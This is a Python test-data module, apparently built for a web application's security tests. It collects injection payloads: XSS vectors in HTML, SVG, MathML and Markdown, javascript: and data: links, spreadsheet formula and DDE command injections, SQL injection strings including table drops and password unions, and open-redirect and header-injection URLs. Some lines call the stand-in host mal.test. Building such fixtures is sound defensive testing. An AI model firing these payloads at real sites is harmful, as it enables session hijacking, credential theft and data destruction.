"""What an attacker types. Each script, if it ran, would call `attack()`; the browser test listens for that call."""

CALL = "attack()"
# The name of what each must not become, then the text.
TAGS = """
<script>attack()</script>
<ScRiPt >attack()</sCrIpT>
<script/src=//mal.test/x.js></script>
<script x>attack()</script y>
<scr<script>ipt>attack()</scr</script>ipt>
</script><script>attack()</script>
<<script>attack()//<</script>
<script type=module>import('//mal.test/x.js')</script>
<script>\u2028attack()</script>
<script\x20type="text/javascript">attack();</script>
<img src=x onerror=attack()>
<img/src=x/onerror=attack()>
<img src=x onerror="attack()"//
<img src="x` `<script>attack()</script>"` `>
<img src=x:x onerror=attack() alt=>
<IMG ""'><SCRIPT>attack()</SCRIPT>">
<img srcset="x 1x" onerror=attack()>
<image src=x onerror=attack()>
<body onload=attack()>
<body onpageshow=attack()>
<iframe src=javascript:attack()></iframe>
<iframe srcdoc="<script>parent.attack()</script>"></iframe>
<object data=javascript:attack()></object>
<object data="data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg=="></object>
<embed src=javascript:attack()>
<applet code=x onerror=attack()></applet>
<base href=//mal.test/>
<link rel=stylesheet href=//mal.test/x.css>
<link rel=import href=//mal.test/x.html>
<meta http-equiv=refresh content="0;url=javascript:attack()">
<meta http-equiv=refresh content="0;url=//mal.test/">
<meta name=referrer content=unsafe-url>
<style>@import'//mal.test/x.css';</style>
<style>*{background:url(//mal.test/x)}</style>
<form action=//mal.test/><input type=password name=password><button>Se connecter</button></form>
<form action=javascript:attack()><button>Voir</button></form>
<form id=x></form><button form=x formaction=javascript:attack()>Voir</button>
<isindex action=javascript:attack() type=image>
<input onfocus=attack() autofocus>
<input type=image src=x onerror=attack()>
<textarea onfocus=attack() autofocus>
</textarea><script>attack()</script>
<select onfocus=attack() autofocus></select>
<keygen onfocus=attack() autofocus>
<video src=x onerror=attack()></video>
<video><source onerror=attack()></video>
<video poster=javascript:attack()></video>
<audio src=x onerror=attack()></audio>
<details open ontoggle=attack()>
<marquee onstart=attack()></marquee>
<dialog open onclose=attack()></dialog>
<table background=javascript:attack()></table>
<div style="background:url(javascript:attack())">
<div style=position:fixed;inset:0;z-index:9999>Votre session a expiré</div>
<div onpointerover=attack()>Passez ici</div>
<xss onbeforetoggle=attack() popover id=x>Ici</xss><button popovertarget=x>Voir</button>
<a href=x onmouseover=attack()>Voir</a>
<a onclick=attack()>Voir</a>
<b onmouseover=attack()>gras</b>
<p/onmouseover=attack()>un paragraphe
<template><script>attack()</script></template>
<template shadowrootmode=open><script>attack()</script></template>
<portal src=//mal.test/></portal>
<noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>
<title></title><img src=x onerror=attack()>
</title><script>attack()</script>
<xmp><p title="</xmp><img src=x onerror=attack()>"></xmp>
<noembed><p title="</noembed><img src=x onerror=attack()>"></noembed>
<plaintext>la suite de la page
<!--><img src=x onerror=attack()>-->
<!-- --!><img src=x onerror=attack()>
<![CDATA[><script>attack()</script>]]>
<?xml-stylesheet href="javascript:attack()"?>
""".strip().split("\n")
DRAWINGS = """
<svg onload=attack()>
<svg/onload=attack()>
<svg><script>attack()</script></svg>
<svg><script xlink:href=//mal.test/x.js></script></svg>
<svg><a xlink:href=javascript:attack()><text y=20>Voir</text></a></svg>
<svg><animate onbegin=attack() attributeName=x dur=1s>
<svg><set onbegin=attack() attributeName=x to=1>
<svg><a><animate attributeName=href values=javascript:attack() /><text y=20>Voir</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>attack()</script></svg>#x">
<svg><foreignObject><iframe src=javascript:attack()></iframe></foreignObject></svg>
<svg><style><img src=x onerror=attack()></style></svg>
<svg><desc><![CDATA[</desc><script>attack()</script>]]></desc></svg>
<svg><title><p title="</title><img src=x onerror=attack()>"></title></svg>
<svg></p><style><a id="</style><img src=x onerror=attack()>">
<math><maction actiontype=statusline xlink:href=javascript:attack()>Voir</maction></math>
<math href=javascript:attack()>Voir</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack()&gt;">
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=attack() src=x>"></textarea>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=attack() src>">
<math><annotation-xml encoding=text/html><script>attack()</script></annotation-xml></math>
""".strip().split("\n")
BREAKS = """
"><script>attack()</script>
'><script>attack()</script>
"><img src=x onerror=attack()>
" onmouseover=attack() x="
' onmouseover='attack()
" autofocus onfocus=attack() x="
"/onclick=attack()//
` onmouseover=attack() `
"-attack()-"
'-attack()-'
';attack();//
";attack();//
\\";attack();//
${attack()}
{{attack()}}
{{constructor.constructor('attack()')()}}
{% load static %}{% debug %}
#{attack()}
--><script>attack()</script><!--
*/attack();/*
]]><script>attack()</script>
"}</script><script>attack()</script>
\\u003cscript\\u003eattack()\\u003c/script\\u003e
%3Cscript%3Eattack()%3C/script%3E
&lt;script&gt;attack()&lt;/script&gt;
&amp;lt;script&amp;gt;attack()&amp;lt;/script&amp;gt;
&#60;script&#62;attack()&#60;/script&#62;
&#x3c;img src=x onerror=attack()&#x3e;
+ADw-script+AD4-attack()+ADw-/script+AD4-
\ufeff<script>attack()</script>
<\u200bscript>attack()</script>
\uff1cscript\uff1eattack()\uff1c/script\uff1e
\u202e>tpircs/<)(kcatta>tpircs<
<img src=x onerror\u00a0=attack()>
<ımg src=x onerror=attack()>
<ſcript>attack()</ſcript>
""".strip().split("\n")
LINKS = """
javascript:attack()
JaVaScRiPt:attack()
javascript&colon;attack()
java&Tab;script:attack()
java\tscript:attack()
\u0001javascript:attack()
&#106;avascript:attack()
javascript&#x3a;attack()
javascript://exemple.test/%0aattack()
vbscript:msgbox(1)
data:text/html,<script>attack()</script>
data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=attack() xmlns='http://www.w3.org/2000/svg'/>
feed:javascript:attack()
blob:https://mal.test/x
file:///etc/passwd
view-source:javascript:attack()
""".strip().split("\n")
MARKDOWN = [
    *(f"[voir]({link})" for link in LINKS),
    *(f"<{link}>" for link in LINKS if " " not in link),
    *(f"![voir]({link})" for link in LINKS[:3]),
    "[voir][x]\n\n[x]: javascript:attack()",
    "[voir][x]\n\n[x]: <javascript:attack()> 'onmouseover=attack()'",
    "[voir](x \"' onmouseover=attack() x='\")",
    "[voir](<javascript:attack()>)",
    "[a](javascript:attack()//[b](x))",
    "[x](https://exemple.test/\"onmouseover=attack()\")",
    "[<img src=x onerror=attack()>](https://exemple.test/)",
    "![<img src=x onerror=attack()>](x)",
    "```<script>attack()</script>\ncode\n```",
    "```\" onmouseover=attack() x=\"\ncode\n```",
    "`<script>attack()</script>`",
    "    <script>attack()</script>",
    "# <script>attack()</script>",
    "<div\nonmouseover=attack()\n>voir</div>",
    "| <img src=x onerror=attack()> | b |\n|---|---|\n| \" onmouseover=attack() | ' |",
    "- <svg onload=attack()>\n- ~~<b onmouseover=attack()>~~",
    "**<a href='javascript:attack()'>voir</a>**",
    "<a href=\"https://exemple.test/\" onclick=\"attack()\">voir</a>",
    "&#60;script&#62;attack()&#60;/script&#62;\n\n\\<script>attack()\\</script>",
    "<https://exemple.test/\"onmouseover=attack()>",
]  # fmt: skip
SCRIPTS = [*TAGS, *DRAWINGS, *BREAKS, *LINKS]

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://mal.test/?x="&A1;"Voir")',
    '=WEBSERVICE("https://mal.test/")',
    '=IMPORTXML("https://mal.test/";"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1"',
    ";=1+1",
    "|=1+1",
    "a\n=1+1",
]

QUERIES = [
    "'",
    '"',
    "\\",
    "' OR '1'='1",
    "') OR ('1'='1",
    "1 OR 1=1",
    "1; DROP TABLE practices_practice; --",
    "' UNION SELECT password FROM clusters_user --",
    "1' AND (SELECT pg_sleep(9)) IS NOT NULL --",
    "1 AND randomblob(900000000)",
    "%' ESCAPE '!",
    "%%%%__",
    "$$;SELECT 1;$$",
    "/**/",
    "é' COLLATE NOCASE --",
    'a" OR "b',
    "NEAR(a b)",
    "titre:*",
    "a* AND NOT (b",
    "a & | ! :* <-> b",
    "\x00",
    "a\x00b",
    "\ud7ff\uffff",
    "9" * 40,
    "-1",
    "1e400",
    "NaN",
    "true",
    "[]",
    "{}",
    "None",
    "٣",
    "²",
]

# Where a sign-in might send its reader.
ELSEWHERE = [
    "//mal.test",
    "///mal.test",
    "////mal.test/..",
    "https://mal.test",
    "HTTPS://MAL.TEST/",
    "http:mal.test",
    "https:mal.test",
    "https:/mal.test",
    "https:///mal.test",
    "/\\mal.test",
    "\\\\mal.test",
    "\\/mal.test",
    "/\t/mal.test",
    "/\n/mal.test",
    "\t//mal.test",
    " //mal.test",
    "/%09/mal.test/..//mal.test",
    "//mal.test%2f@testserver/",
    "//testserver@mal.test/",
    "https://testserver@mal.test/",
    "https://testserver.mal.test/",
    "https://mal.test/testserver",
    "https://mal.test\\@testserver/",
    "https://mal.test#@testserver/",
    "//\u2028mal.test",
    "//mal\u3002test",
    "/\u2044mal.test",
    "javascript:attack()",
    "javascript://testserver/%0aattack()",
    "data:text/html,<script>attack()</script>",
    "vbscript:attack()",
    "//[::1]/",
    "http://2130706433/",
    "%2f%2fmal.test",
    "/%5cmal.test",
    "/x\r\nLocation: https://mal.test/",
    "/x\r\n\r\n<script>attack()</script>",
    "x" * 9_000,
    "\x00//mal.test",
]
